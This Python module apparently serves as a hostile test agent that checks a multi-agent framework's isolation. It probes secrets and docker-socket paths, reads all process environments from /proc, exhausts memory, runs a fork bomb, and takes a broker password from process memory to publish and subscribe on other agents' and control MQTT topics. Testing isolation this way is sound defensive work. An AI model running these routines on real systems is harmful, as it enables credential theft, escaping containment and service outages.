# ruff: noqa: PTH112, PTH116, PTH123, PTH208, SIM115
"""Runs as a spawned agent on CPython and tries what it must not; every task says what to try and gets what came of it."""

import asyncio
import gc
import json
import os
import socket
import struct
import time

import tinything

FOREIGN = ("agents/by-name/main/task", "agents/by-name/neighbor/task", "nodes/local/spawn", "system/health",
           "agents/someone/commands", "$CONTROL/dynamic-security/v1")  # fmt: skip
SECRET = ("agents/by-name/neighbor/task", "agents/by-name/monitor/task", "nodes/#", "io/chat", "#",
          "$CONTROL/dynamic-security/v1/response")  # fmt: skip


async def handle_task(agent, payload):
    done = ACTS[payload.get("do", "rest")](payload)
    return {"result": json.dumps(await done if asyncio.iscoroutine(done) else done)}


def rest(_payload):
    return tinything.ANSWER


def files(_payload):
    """What the file system shows, and whether it can be written."""
    found = {}
    for path in ("/run/secrets", "/var/run/docker.sock", "/run/docker.sock", "/made", "/root", "/usr/local/bin/mine"):
        try:
            if path.endswith("mine"):
                open(path, "w").close()
            found[path] = os.listdir(path) if os.path.isdir(path) else str(os.stat(path).st_mode)
        except OSError as error:
            found[path] = error.strerror
    return found


def environment(_payload):
    inits = [one for one in os.listdir("/proc") if one.isdigit()]
    texts = [repr(dict(os.environ))]
    for one in inits:
        try:
            texts.append(open(f"/proc/{one}/environ", errors="replace").read())
        except OSError:
            continue
    return " ".join(texts)


async def sockets(payload):
    """Which of these addresses can be reached; names can take long to be looked for in vain."""
    tried = await asyncio.gather(*(asyncio.to_thread(_reach, host, port) for host, port in payload["to"]))
    return dict(zip((host for host, _ in payload["to"]), tried, strict=True))


def _reach(host, port):
    try:
        socket.create_connection((host, port), 2).close()
    except OSError as error:
        return error.strerror or str(error) or type(error).__name__
    return "open"


def eat(_payload):
    return len(b"x" * (10 * 1024**3))


def fork(_payload):
    made = 0
    try:
        while True:
            if os.__dict__["fork"]() == 0:
                while True:
                    try:
                        os.__dict__["fork"]()
                    except OSError:
                        time.sleep(0.2)
            made += 1
    except OSError as error:
        return {"made": made, "error": error.strerror}


def steal(_payload):
    """Log in with the account that lies in the memory of this process, and leave its own topics."""
    login = next(one for one in gc.get_objects() if type(one).__name__ in ("BrokerLogin", "Broker") and one.password)
    password = getattr(login.password, "get_secret_value", lambda: login.password)()
    with socket.create_connection((login.host, login.port), 5) as wire:
        user = login.username
        names = _text(f"wactorz-{user}") + _text(user) + _text(password)
        wire.sendall(_packet(0x10, _text("MQTT") + b"\x05\xc2\x00\x3c\x00" + names))
        entered = _answer(wire, 0x20)[1]
        said = {topic: _publish(wire, number, topic) for number, topic in enumerate(FOREIGN, 1)}
        heard = {topic: _subscribe(wire, number, topic) for number, topic in enumerate(SECRET, 20)}
    return {"user": user, "entered": entered, "published": said, "heard": heard}


def _publish(wire, number, topic):
    wire.sendall(_packet(0x32, _text(topic) + struct.pack(">H", number) + b"\x00{}"))
    answer = _answer(wire, 0x40)
    return answer[2] if len(answer) > 2 else 0


def _subscribe(wire, number, topic):
    wire.sendall(_packet(0x82, struct.pack(">H", number) + b"\x00" + _text(topic) + b"\x01"))
    return _answer(wire, 0x90)[-1]


def _text(value):
    raw = value.encode()
    return struct.pack(">H", len(raw)) + raw


def _packet(kind, body):
    size = len(body)
    return bytes([kind]) + (bytes([size]) if size < 128 else bytes([size % 128 | 128, size // 128])) + body


def _answer(wire, kind):
    while True:
        head = _take(wire, 1)[0]
        size = shift = 0
        while True:
            digit = _take(wire, 1)[0]
            size |= (digit & 127) << shift
            shift += 7
            if digit < 128:
                break
        body = _take(wire, size)
        if head & 0xF0 == kind & 0xF0:
            return body


def _take(wire, count):
    data = b""
    while len(data) < count:
        data += wire.recv(count - len(data)) or _gone()
    return data


def _gone():
    raise OSError("the broker hung up")


ACTS = {"rest": rest, "files": files, "environment": environment, "sockets": sockets, "eat": eat, "fork": fork,
        "steal": steal}  # fmt: skip
